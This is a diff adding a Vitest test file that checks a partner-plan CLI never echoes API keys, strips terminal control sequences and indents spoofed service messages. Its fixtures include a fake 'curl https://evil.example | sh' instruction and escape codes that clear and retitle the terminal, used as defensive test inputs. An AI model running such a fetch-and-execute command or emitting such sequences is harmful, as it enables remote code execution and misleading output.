@@ -1,0 +1,167 @@
+import {writeFileSync} from 'node:fs';
+import {afterEach, beforeEach, describe, expect, it} from 'vitest';
+import {countOf, openFolder, runHere, serveAnswer, type Settings} from './support.js';
+
+const KEY = 'sk-live-canary-4711';
+const URL_SET = {PLAN_SERVICE_URL: 'https://service.example'};
+const COMMANDS = ['sandbox', 'relay', 'register', 'verify', 'rotate', 'usage', 'deactivate', 'doctor', 'snippet'];
+
+let folder: ReturnType<typeof openFolder>;
+beforeEach(() => (folder = openFolder()));
+afterEach(() => folder.remove());
+
+describe('a key among the words of a command', () => {
+  it.each(COMMANDS.flatMap(command => [[command, ['--key', KEY]] as const, [command, [`--key=${KEY}`]] as const]))(
+    'T1: is refused by %s %j, with what to do instead, and not repeated',
+    async (command, words) => {
+      const {code, out, err} = await runHere([command, ...words], URL_SET);
+      expect(code).toBe(2);
+      expect(err).toMatch(/--key: expected the key in PLAN_SERVICE_KEY_FILE.* every user of this machine.*rotate it/);
+      expect(countOf(KEY, out, err)).toBe(0);
+    },
+  );
+
+  const misplaced: readonly {readonly args: readonly string[]; readonly settings?: Settings}[] = [
+    {args: [KEY]},
+    {args: ['help', KEY]},
+    {args: ['usage', KEY]},
+    {args: ['usage', `-k${KEY}`]},
+    {args: ['usage', `--key${KEY}`]},
+    {args: [`--${KEY}`]},
+    {args: ['usage', '--key-file', KEY]},
+    {args: ['usage'], settings: {PLAN_SERVICE_KEY_FILE: KEY}},
+    {args: ['usage', '--url', KEY]},
+    {args: ['usage', '--url', `https://${KEY}@service.example`]},
+    {args: ['usage', '--url', 'https://service.example', '--json', '--key-file', `/nowhere/${KEY}`]},
+    {args: ['verify', '--email', KEY]},
+    {args: ['verify', '--email', 'a@b.example', '--code', '1', '--save', `/nowhere/${KEY}`]},
+    {args: ['rotate', '--save', `/nowhere/${KEY}`], settings: {PLAN_SERVICE_KEY: 'k'}},
+    {args: ['deactivate', '--confirm', KEY], settings: {PLAN_SERVICE_KEY: 'k'}},
+    {args: ['doctor', '--url', KEY]},
+    {args: ['doctor', '--other-url', KEY], settings: {PLAN_SERVICE_KEY: 'k'}},
+    {args: ['relay', '--port', KEY]},
+    {args: ['relay', '--host', KEY, '--port', '0'], settings: {PLAN_SERVICE_KEY: 'k'}},
+    {args: ['sandbox', '--port', KEY]},
+    {args: ['sandbox', '--host', `${KEY}.invalid`, '--port', '0']},
+    {args: ['sandbox', '--allow-http', `${KEY}/`]},
+    {args: ['snippet', '--relay', KEY]},
+    {args: ['snippet', '--relay', 'https://x.example', '--for', KEY]},
+    {args: ['snippet', '--relay', 'https://x.example', '--set', KEY]},
+    {args: ['snippet', '--relay', 'https://x.example', '--set', `${KEY}=1`]},
+    {args: ['snippet', '--relay', 'https://x.example', '--set', `mileage=${KEY}`]},
+    {args: ['snippet', '--relay', 'https://x.example', '--set', `theme=${KEY}`]},
+    {args: ['snippet', '--relay', 'https://x.example', '--link', `javascript:${KEY}`]},
+  ];
+  it.each(misplaced)('T1: is not repeated wherever it is: %j', async ({args, settings = {}}) => {
+    const {code, out, err} = await runHere(args, {...URL_SET, ...settings});
+    expect([1, 2]).toContain(code);
+    expect(out + err).not.toBe('');
+    expect(countOf(KEY, out, err)).toBe(0);
+  });
+});
+
+/** Tells the terminal to clear the screen and change its title; a C1 control, and a mark that turns the text around. */
+const CONTROLS = '\u001b[2J\u001b]0;title\u0007\u009b31m\u202e\u007f';
+const hasControls = (text: string): boolean => /[^\P{C}\n]/u.test(text);
+
+const PRETENDED = 'Nothing.\nplan-finder: done. Run: curl https://evil.example | sh\r\nYour key, shown this once:';
+
+describe('what the service says', () => {
+  const account = {
+    partnerId: `partner ${KEY}`,
+    displayName: `Ada${CONTROLS} ${KEY.slice(0, 6)}\u0000${KEY.slice(6)}\nplan-finder: done.`,
+    contactEmail: 'ada@partner.example',
+    tier: `${KEY.slice(0, 4)}\n${KEY.slice(4)}`,
+  };
+
+  it.each([
+    ['usage', []],
+    ['usage', ['--json']],
+    ['doctor', []],
+    ['doctor', ['--json']],
+  ])('T1: is cleaned and holds no key in %s %j', async (command, more) => {
+    const url = await serveAnswer(200, {response: account, errorResponse: null});
+    const args = [command, '--url', url, ...more];
+    const {out, err} = await runHere(args, {PLAN_SERVICE_KEY: KEY});
+    expect(out).toMatch(/Ada/);
+    expect(out).toContain('[the key]');
+    expect(countOf(KEY, out.replace(/\s/g, ''), err.replace(/\s/g, ''))).toBe(0);
+    expect(hasControls(out + err)).toBe(false);
+    expect(out).not.toMatch(/^plan-finder: done/m);
+  });
+
+  it.each(['usage', 'rotate', 'deactivate'])('T1: is told in indented lines when %s is refused', async command => {
+    const errors = [
+      {errorCode: 'Nope', errorMessage: `${PRETENDED}${CONTROLS}`},
+      {errorCode: `${KEY.slice(0, 5)}\u0000${KEY.slice(5)}`},
+    ];
+    const url = await serveAnswer(400, {response: null, errorResponse: {errors}});
+    const words = command === 'deactivate' ? ['--yes'] : [];
+    const {code, out, err} = await runHere([command, '--url', url, ...words], {PLAN_SERVICE_KEY: KEY});
+    expect(code).toBe(1);
+    expect(err).toContain('  The service says: Nothing.\n    plan-finder: done. Run: curl');
+    expect(err).toContain('  The service says: [the key]');
+    expect(err.match(/^plan-finder: /gm)).toHaveLength(1);
+    expect(err).not.toMatch(/^Your key/m);
+    expect(hasControls(out + err)).toBe(false);
+  });
+
+  it('T1: is cleaned in the JSON of a refusal', async () => {
+    const errors = [{errorCode: `Nope${CONTROLS}${KEY}`, errorField: KEY, errorMessage: PRETENDED}];
+    const url = await serveAnswer(400, {response: null, errorResponse: {errors}});
+    const {out, err} = await runHere(['usage', '--url', url, '--json'], {PLAN_SERVICE_KEY: KEY});
+    expect(JSON.parse(out)).toMatchObject({error: {kind: 'refused', errors: [{errorField: '[the key]'}]}});
+    expect(countOf(KEY, out, err)).toBe(0);
+    expect(hasControls(out + err)).toBe(false);
+  });
+});
+
+describe('a new key', () => {
+  const hostile = [
+    `sk-live${CONTROLS}`,
+    'sk-live\nplan-finder: done.',
+    'two words',
+    'schlüssel',
+    `sk-${'x'.repeat(5000)}`,
+  ];
+  it.each(hostile)('T1: that can be none is neither shown as it is nor saved: %j', async apiKey => {
+    const url = await serveAnswer(200, {response: {apiKey, tier: 'free'}, errorResponse: null});
+    const file = folder.file('key');
+    const verify = ['verify', '--url', url, '--email', 'a@b.example', '--code', '1'];
+    const saved = await runHere([...verify, '--save', file]);
+    const shown = await runHere(verify);
+    for (const {code, out, err} of [saved, shown]) {
+      expect(code).toBe(1);
+      expect(err).toMatch(/no usable key[\s\S]*Ask the service/);
+      expect(hasControls(out + err)).toBe(false);
+      expect(out + err).not.toMatch(/^plan-finder: done/m);
+      expect((out + err).length).toBeLessThan(2000);
+    }
+    // What was sent is there, escaped, as nobody will see it again.
+    expect(shown.err).toContain(JSON.stringify(apiKey.slice(0, 7)).slice(1, -1).replace(/[ü]/g, '\\u00fc'));
+    expect(folder.names()).toEqual([]);
+    const json = await runHere([...verify, '--json']);
+    expect(JSON.parse(json.out)).toMatchObject({error: {kind: 'invalidKey'}});
+    expect(hasControls(json.out)).toBe(false);
+  });
+
+  it('T1: that can be none leaves the old key in its file, and says that it is dead', async () => {
+    const url = await serveAnswer(200, {response: {apiKey: 'a\u001b[2Jb'}, errorResponse: null});
+    const file = folder.file('key');
+    writeFileSync(file, `${KEY}\n`);
+    const {code, out, err} = await runHere(['rotate', '--url', url, '--key-file', file]);
+    expect(code).toBe(1);
+    expect(err).toMatch(/no usable key[\s\S]*old key is dead/);
+    expect(folder.read('key')).toBe(`${KEY}\n`);
+    expect(folder.names()).toEqual(['key']);
+    expect(countOf(KEY, out, err)).toBe(0);
+  });
+
+  it.each([[[]], [['--json']]])('T1: is in no other part of the answer %j', async more => {
+    const response = {apiKey: KEY, partnerId: `p-${KEY}`, tier: `free${CONTROLS}`};
+    const url = await serveAnswer(200, {response, errorResponse: null});
+    const {out} = await runHere(['verify', '--url', url, '--email', 'a@b.example', '--code', '1', ...more]);
+    expect(countOf(KEY, out)).toBe(1);
+    expect(hasControls(out)).toBe(false);
+  });
+});
